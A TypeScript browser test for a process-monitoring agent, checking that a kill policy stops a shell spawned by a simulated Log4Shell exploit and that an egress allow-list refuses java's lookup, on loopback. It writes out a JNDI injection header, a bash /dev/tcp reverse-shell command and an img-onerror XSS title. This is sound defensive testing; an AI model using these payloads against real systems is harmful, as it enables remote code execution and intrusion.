/**
 * Prevention in the browser: a real `proctrail agent --policy` with the shipped
 * kill-shells-under-java policy, the Log4Shell scenario's parts (the java service, the
 * directory stand-in, the shell listener) on loopback, and the java process's tree in
 * Chromium. The shell the exploit starts dies at exec, and its node says so: a stop mark
 * naming the policy, apart from the detection badges. Under java-egress-allow-list instead,
 * java's lookup is refused, and java's node carries the mark.
 *
 * The policy is scoped to the lab cgroup (/proctrail-lab under the cgroup v2 root) and only
 * this test's java is put there, so no other shell on this shared host is touched. A second
 * policy, loaded first, only alerts on the same shells and has a title that looks like markup:
 * the dashboard must show it as text.
 */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, rmdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { findCgroupV2Root } from '@proctrail/bpf';
import { kernelSkipReason } from '@proctrail/bpf/testing';
import type { Browser } from 'playwright-core';
import {
  startDirectoryStandIn,
  startShellListener,
} from '../apps/agent/src/demo/log4shell/attacker';
import { spawnJavaService } from '../apps/agent/src/demo/log4shell/java-service';
import { identify, stopProcessTree } from '../apps/agent/src/demo/log4shell/process-group';
import {
  artifactsDir,
  launchBrowser,
  repoRoot,
  startAgent,
  startDashboard,
  stop,
  type Running,
} from './harness';

const skip = kernelSkipReason();
if (skip) console.log(`# skipping the prevention browser test: ${skip}`);

const KILL_POLICY = join(repoRoot, 'apps/agent/policies/kill-shells-under-java.yaml');
const EGRESS_POLICY = join(repoRoot, 'apps/agent/policies/java-egress-allow-list.yaml');
const HOSTILE_TITLE = '<img src=x onerror="window.__injected=1">shell under java';

/** An alert-only twin of the kill policy, whose title is attacker-shaped text. */
function alertPolicy(dir: string): string {
  const file = join(dir, 'note-shells-under-java.yaml');
  writeFileSync(
    file,
    [
      'policies:',
      '  - name: note-shells-under-java',
      `    title: '${HOSTILE_TITLE}'`,
      '    on: exec',
      '    action: alert',
      '    match:',
      '      process:',
      '        binary: [sh, bash, dash]',
      '      ancestor:',
      '        binary: [java]',
      '      cgroup: /proctrail-lab',
      '',
    ].join('\n'),
  );
  return file;
}

/** One tRPC query over plain HTTP, as the dashboard's server makes them. */
async function query<T>(apiUrl: string, path: string, input: unknown): Promise<T> {
  const url = `${apiUrl}/trpc/${path}?input=${encodeURIComponent(JSON.stringify(input))}`;
  const answer = await fetch(url).catch((error: Error) => {
    // undici says only "fetch failed"; the cause says whether the agent was gone or reset it.
    throw new Error(`${path}: ${error.message}: ${String(error.cause)}`, { cause: error });
  });
  assert.equal(answer.status, 200, `${path} answered`);
  return ((await answer.json()) as { result: { data: T } }).result.data;
}

interface StoredKprobe {
  execId: string | null;
  event: { process_kprobe?: { policy_name?: string; process?: { binary?: string } } };
}

/** The stored enforcement events of `policy`, once there are `count` of them (bounded wait). */
async function enforcements(apiUrl: string, policy: string, count: number) {
  for (let attempt = 0; attempt < 60; attempt++) {
    const page = await query<{ items: StoredKprobe[] }>(apiUrl, 'event.list', {
      kinds: ['process_kprobe'],
      limit: 10_000,
    });
    const found = page.items.filter((e) => e.event.process_kprobe?.policy_name === policy);
    if (found.length >= count) return found;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
  throw new Error(`fewer than ${count} enforcement events of ${policy} were stored`);
}

describe('prevention in the browser', { skip, timeout: 300_000 }, () => {
  const dir = mkdtempSync(join(tmpdir(), 'proctrail-prevention-e2e-'));
  const cgroup = join(findCgroupV2Root(), 'proctrail-lab');
  let agent: Running | undefined;
  let dashboard: Running | undefined;
  let browser: Browser | undefined;

  /** A fresh agent with `policyArgs` and a dashboard on it, for one test. */
  async function startWith(name: string, policyArgs: string[]): Promise<void> {
    agent = await startAgent(join(dir, `${name}.db`), policyArgs);
    dashboard = await startDashboard(agent.url);
  }

  async function stopBoth(): Promise<void> {
    await stop(dashboard);
    await stop(agent);
  }

  before(async () => {
    mkdirSync(cgroup, { recursive: true });
    browser = await launchBrowser();
  });

  after(async () => {
    await browser?.close();
    await stopBoth();
    // Fails while another run still uses the lab cgroup: it is left for that run.
    try {
      rmdirSync(cgroup);
    } catch {
      // in use
    }
    rmSync(dir, { recursive: true, force: true });
  });

  test("the shell killed at exec is marked with the policy's name in java's tree", async () => {
    await startWith('kill', ['--policy', alertPolicy(dir), '--policy', KILL_POLICY]);
    const shell = await startShellListener(['id', 'exit'], { timeoutMs: 5_000 });
    const directory = await startDirectoryStandIn(
      `bash -i >& /dev/tcp/127.0.0.1/${shell.port} 0>&1`,
    );
    const service = spawnJavaService({ PATH: process.env.PATH, HOME: '/tmp', LANG: 'C.UTF-8' });
    try {
      writeFileSync(join(cgroup, 'cgroup.procs'), String(service.pid));
      const port = await service.listening;
      const exploit = `\${jndi:ldap://127.0.0.1:${directory.port}/Exploit}`;
      const answer = await fetch(`http://127.0.0.1:${port}/api/status`, {
        headers: { 'X-Api-Version': exploit, 'User-Agent': 'curl/8.0' },
        signal: AbortSignal.timeout(15_000),
      });
      assert.equal(answer.status, 200);
      await answer.text();
      await directory.firstSearch;
      const [killed] = await enforcements(agent!.url, 'kill-shells-under-java', 1);
      const [noted] = await enforcements(agent!.url, 'note-shells-under-java', 1);
      assert.ok(killed?.execId, 'the kill names the process');
      assert.equal(noted?.execId, killed.execId, 'both policies acted on the same shell');
      assert.match(killed.event.process_kprobe?.process?.binary ?? '', /\/bash$/);
      const connected = await Promise.race([
        shell.connected.then(() => true),
        new Promise((resolve) => setTimeout(() => resolve(false), 1_000)),
      ]);
      assert.equal(connected, false, 'no reverse shell connected');

      const java = await query<{ items: Array<{ exec_id: string; source: string }> }>(
        agent!.url,
        'process.search',
        { pid: service.pid, binary: 'java', limit: 10 },
      );
      const javaNode = java.items[0];
      assert.ok(javaNode, 'java was stored');

      const page = await browser!.newPage({ viewport: { width: 1400, height: 900 } });
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      const link = new URL('/process', dashboard!.url);
      link.searchParams.set('execId', javaNode.exec_id);
      link.searchParams.set('source', javaNode.source);
      await page.goto(link.toString());
      const bashNode = page.locator(`[data-testid=tree] g.tree-node[data-id="${killed.execId}"]`);
      const mark = bashNode.locator('g.enforcement-mark');
      await mark.waitFor({ timeout: 20_000 });

      assert.equal(await mark.getAttribute('data-outcome'), 'blocked');
      assert.equal(
        await mark.getAttribute('data-policy'),
        'note-shells-under-java kill-shells-under-java',
      );
      assert.match(
        (await bashNode.locator('text.label').textContent()) ?? '',
        /^bash \(\d+\)/,
        'the mark is on the shell',
      );
      assert.match(
        (await bashNode.locator('text.sub').textContent()) ?? '',
        /^killed SIGKILL · blocked by kill-shells-under-java$/,
      );
      const title = (await mark.locator('title').textContent()) ?? '';
      assert.match(title, /^alert from note-shells-under-java: alert: would have killed .*bash/m);
      assert.match(title, /^blocked by kill-shells-under-java: killed .*bash at exec/m);
      assert.ok(title.includes(HOSTILE_TITLE), `the title is shown as it was written: ${title}`);
      assert.equal(await page.locator('[data-testid=tree] img').count(), 0, 'no markup made');
      assert.equal(await page.evaluate('window.__injected'), undefined, 'nothing ran');

      // Apart from detections: java's own node has no mark (it was not blocked), and the
      // shell's detection badge, when a rule flagged it, is a different element.
      const javaMark = page.locator(
        `[data-testid=tree] g.tree-node[data-id="${javaNode.exec_id}"] g.enforcement-mark`,
      );
      assert.equal(await javaMark.count(), 0, 'java itself was not blocked');
      await bashNode.locator('g.detection-badge').waitFor({ timeout: 10_000 });
      assert.equal(await bashNode.locator('g.detection-badge g.enforcement-mark').count(), 0);
      assert.equal(await page.locator('[data-testid=legend]').getByText('blocked by a').count(), 1);

      // Selected, the shell's details list both policies' enforcements, as text. (Selected
      // through the URL, as a click would: the shell may be drawn off the visible canvas.)
      const selectedLink = new URL(link);
      selectedLink.searchParams.set('sel', killed.execId);
      await page.goto(selectedLink.toString());
      const rows = page.getByTestId('node-enforcements').getByTestId('enforcement-row');
      await rows.first().waitFor();
      assert.deepEqual(
        await rows.evaluateAll((found) => found.map((row) => row.getAttribute('data-outcome'))),
        ['alert', 'blocked'],
      );
      assert.ok(((await rows.first().textContent()) ?? '').includes(HOSTILE_TITLE));
      assert.match((await rows.nth(1).textContent()) ?? '', /kill-shells-under-java/);
      assert.equal(await page.locator('[data-testid=details] img').count(), 0, 'no markup made');

      await bashNode.scrollIntoViewIfNeeded();
      await page.screenshot({ path: join(artifactsDir, 'prevention-tree.png') });
      await page.close();
      assert.deepEqual(errors, [], 'no script errors on the page');
    } finally {
      const identity = identify(service.pid);
      if (identity) assert.deepEqual(await stopProcessTree(identity), []);
      await directory.close();
      await shell.close();
      await stopBoth();
    }
  });

  test("java's refused lookup is marked on java with the allow list's name", async () => {
    await startWith('egress', ['--policy', EGRESS_POLICY]);
    const directory = await startDirectoryStandIn('true');
    const service = spawnJavaService({ PATH: process.env.PATH, HOME: '/tmp', LANG: 'C.UTF-8' });
    try {
      writeFileSync(join(cgroup, 'cgroup.procs'), String(service.pid));
      const port = await service.listening;
      const exploit = `\${jndi:ldap://127.0.0.1:${directory.port}/Exploit}`;
      const answer = await fetch(`http://127.0.0.1:${port}/api/status`, {
        headers: { 'X-Api-Version': exploit, 'User-Agent': 'curl/8.0' },
        signal: AbortSignal.timeout(15_000),
      });
      assert.equal(answer.status, 200, 'java still serves');
      await answer.text();
      const [refused] = await enforcements(agent!.url, 'java-egress-allow-list', 1);
      assert.deepEqual(directory.searches, [], 'the lookup never arrived');

      const java = await query<{ items: Array<{ exec_id: string; source: string }> }>(
        agent!.url,
        'process.search',
        { pid: service.pid, binary: 'java', limit: 10 },
      );
      const javaNode = java.items[0];
      assert.ok(javaNode, 'java was stored');
      assert.equal(refused?.execId, javaNode.exec_id, 'the refusal names java');

      const page = await browser!.newPage({ viewport: { width: 1400, height: 900 } });
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(error.message));
      const link = new URL('/process', dashboard!.url);
      link.searchParams.set('execId', javaNode.exec_id);
      link.searchParams.set('source', javaNode.source);
      await page.goto(link.toString());
      const javaDrawn = page.locator(
        `[data-testid=tree] g.tree-node[data-id="${javaNode.exec_id}"]`,
      );
      const mark = javaDrawn.locator('g.enforcement-mark');
      await mark.waitFor({ timeout: 20_000 });
      assert.equal(await mark.getAttribute('data-outcome'), 'blocked');
      assert.equal(await mark.getAttribute('data-policy'), 'java-egress-allow-list');
      assert.match(
        (await javaDrawn.locator('text.sub').textContent()) ?? '',
        / · blocked by java-egress-allow-list$/,
      );
      assert.match(
        (await mark.locator('title').textContent()) ?? '',
        new RegExp(
          `^blocked by java-egress-allow-list: refused a connect to 127\\.0\\.0\\.1:${directory.port} `,
        ),
      );
      assert.equal(
        await page.locator('[data-testid=tree] g.enforcement-mark').count(),
        1,
        'only java was blocked',
      );
      await page.screenshot({ path: join(artifactsDir, 'prevention-refused-connect.png') });
      await page.close();
      assert.deepEqual(errors, [], 'no script errors on the page');
    } finally {
      const identity = identify(service.pid);
      if (identity) assert.deepEqual(await stopProcessTree(identity), []);
      await directory.close();
      await stopBoth();
    }
  });
});
